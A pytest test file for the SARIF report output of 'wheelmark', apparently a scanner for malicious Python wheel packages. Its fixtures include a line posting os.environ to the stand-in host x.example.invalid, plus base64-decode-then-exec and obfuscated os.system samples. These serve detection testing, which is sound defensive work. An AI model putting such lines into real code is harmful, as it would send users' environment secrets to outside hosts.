"""Reports as SARIF: what code hosts read is there, is right, and is the same for the same findings."""

from __future__ import annotations

import base64
import io
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from support.sarif import check_log, where
from support.scan import a_wheel, scan_import, scan_wheel, the_ruleset
from wheelmark.scan import Finding, Report, RuleState, Sample, ScanBounds, Severity, Tactic, Verdict, scan_stream
from wheelmark.scan.samples import WHEEL_NAME
from wheelmark.scan.sarif import FINGERPRINT, to_sarif
from wheelmark.scan.snippets import snippets_of

SENDS = "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))\n"


def log_of(*reports: Report, **options: Any) -> dict[str, Any]:
    log: dict[str, Any] = json.loads(to_sarif(reports, the_ruleset().rules, "1.2.3", **options))
    check_log(log)
    return log


def run_of(*reports: Report, **options: Any) -> dict[str, Any]:
    run: dict[str, Any] = log_of(*reports, **options)["runs"][0]
    return run


@pytest.mark.parametrize("rule", the_ruleset().rules, ids=lambda rule: rule.id)
def test_malicious_samples_of_each_rule_make_a_log_of_the_right_shape(rule: object) -> None:
    for sample in rule.samples.malicious:  # type: ignore[attr-defined]
        stream = io.BytesIO(sample.packed())
        report = scan_stream(stream, filename=sample.filename, ruleset=the_ruleset(), bounds=ScanBounds())
        assert rule.id in {result["ruleId"] for result in run_of(report)["results"]}  # type: ignore[attr-defined]


def test_result_says_rule_place_level_and_evidence() -> None:
    run = run_of(replace(scan_import(SENDS), file="dist/a widget.whl"))
    (result,) = [each for each in run["results"] if each["ruleId"] == "secrets-sent"]
    assert (result["level"], result["kind"]) == ("error", "fail")
    assert where(result) == "dist/a%20widget.whl/widget/__init__.py"
    assert result["locations"][0]["physicalLocation"]["region"] == {"startLine": 2}
    assert "requests.post of os.environ" in result["message"]["text"]
    assert result["properties"]["security-severity"] == "9.5"
    rule = run["tool"]["driver"]["rules"][result["ruleIndex"]]
    assert rule["properties"]["tags"] == ["security", "TA0010 Exfiltration"]
    assert "go out over the network" in rule["help"]["text"]
    assert rule["help"]["markdown"].endswith(f"[{rule['helpUri']}]({rule['helpUri']})")


def test_way_of_a_value_is_a_code_flow() -> None:
    blob = base64.b64encode(b"print('imitation')").decode()
    run = run_of(scan_import(f"import base64\nx = base64.b64decode('{blob}')\nexec(x)\n"))
    (flow,) = next(result["codeFlows"] for result in run["results"] if result["ruleId"] == "decoded-code-executed")
    (thread,) = flow["threadFlows"]
    assert [
        (
            step["kinds"],
            step["location"]["message"]["text"],
            step["location"]["physicalLocation"]["region"]["startLine"],
        )
        for step in thread["locations"]
    ] == [(["transform"], "base64.b64decode", 2), (["sink"], "exec", 3)]


def test_gap_is_a_notification_and_an_unsuccessful_run() -> None:
    gap = replace(
        scan_import(SENDS), file="a.whl", findings=(), verdict=Verdict.INCOMPLETE, incomplete_reason="too large"
    )
    (invocation,) = run_of(gap)["invocations"]
    assert invocation["executionSuccessful"] is False
    (notification,) = invocation["toolExecutionNotifications"]
    assert notification["message"]["text"] == "a.whl: scan incomplete: too large"
    assert run_of(scan_import("VERSION = 1"))["invocations"][0]["executionSuccessful"] is True


def test_files_are_artifacts_with_hash_and_verdict() -> None:
    report = scan_import(SENDS)
    (artifact,) = run_of(report)["artifacts"]
    assert artifact["hashes"] == {"sha-256": report.sha256}
    assert artifact["properties"]["verdict"] == "malicious"
    assert artifact["properties"]["ruleset"] == the_ruleset().version


def test_fingerprint_survives_lines_that_move_and_tells_repetitions_apart() -> None:
    def prints(source: str) -> list[str]:
        results = run_of(scan_import(source))["results"]
        return sorted(each["partialFingerprints"][FINGERPRINT] for each in results if each["ruleId"] == "hidden-call")

    once = "import os\ngetattr(os, 'sys' + 'tem')('echo imitation')\n"
    assert prints(once) == prints("\n\n" + once)
    twice = prints(once + "getattr(os, 'sys' + 'tem')('echo imitation')\n")
    assert len(set(twice)) == 2
    assert set(prints(once)) < set(twice)


def test_finding_that_does_not_count_is_informational() -> None:
    rules = [replace(rule, state=RuleState.EVALUATION) for rule in the_ruleset().rules if rule.id == "secrets-sent"]
    finding = replace(scan_import(SENDS).findings[-1], severity=Severity.INFO, rule="secrets-sent")
    report = replace(scan_import(SENDS), findings=(finding,))
    log = json.loads(to_sarif([report], rules, "1"))
    check_log(log)
    assert log["runs"][0]["results"][0]["kind"] == "informational"
    assert log["runs"][0]["tool"]["driver"]["rules"][0]["properties"]["precision"] == "low"


def test_finding_of_no_rule_has_a_description_too() -> None:
    finding = Finding(
        rule="observed-imitation",
        severity=Severity.CRITICAL,
        member="",
        line=0,
        message="It was seen to do it.",
        evidence="",
        tactic=Tactic.EXECUTION,
    )
    run = run_of(replace(scan_import("VERSION = 1"), findings=(finding,)))
    assert run["tool"]["driver"]["rules"][-1]["id"] == "observed-imitation"
    assert run["results"][0]["message"]["text"] == "It was seen to do it."
    assert where(run["results"][0]) == WHEEL_NAME


@pytest.mark.parametrize(
    ("file", "uri"),
    [
        ("./dist/x.whl", "dist/x.whl"),
        ("/srv/x.whl", "file:///srv/x.whl"),
        ("dist/ä b#?.whl", "dist/%C3%A4%20b%23%3F.whl"),
        (".", "."),
    ],
)
def test_paths_become_uris(file: str, uri: str) -> None:
    (artifact,) = run_of(replace(scan_import("VERSION = 1"), file=file))["artifacts"]
    assert artifact["location"]["uri"] == uri


@pytest.mark.parametrize("ending", ["\n", "\r\n", "\r"])
def test_snippet_is_the_line_of_the_finding(tmp_path: Path, ending: str) -> None:
    source = ("# a page\x0cends here, and no line\n" + SENDS).replace("\n", ending)
    path = tmp_path / WHEEL_NAME
    path.write_bytes(a_wheel({"widget/__init__.py": source.encode()}))
    report = scan_wheel({"widget/__init__.py": source.encode()})
    snippets = snippets_of(report, path, filename=path.name)
    place = (report.file, "widget/__init__.py", 3)
    assert snippets[place] == "requests.post('https://x.example.invalid', json=dict(os.environ))"
    (result,) = [each for each in run_of(report, snippets=snippets)["results"] if each["ruleId"] == "secrets-sent"]
    assert result["locations"][0]["physicalLocation"]["region"]["snippet"]["text"] == snippets[place]


def test_snippets_of_a_file_that_cannot_be_read_are_none(tmp_path: Path) -> None:
    report = scan_import(SENDS)
    assert snippets_of(report, tmp_path / "missing.whl", filename=WHEEL_NAME) == {}
    (tmp_path / "broken.whl").write_bytes(Sample.imported(SENDS).packed()[:-40])
    assert snippets_of(report, tmp_path / "broken.whl", filename=WHEEL_NAME) == {}
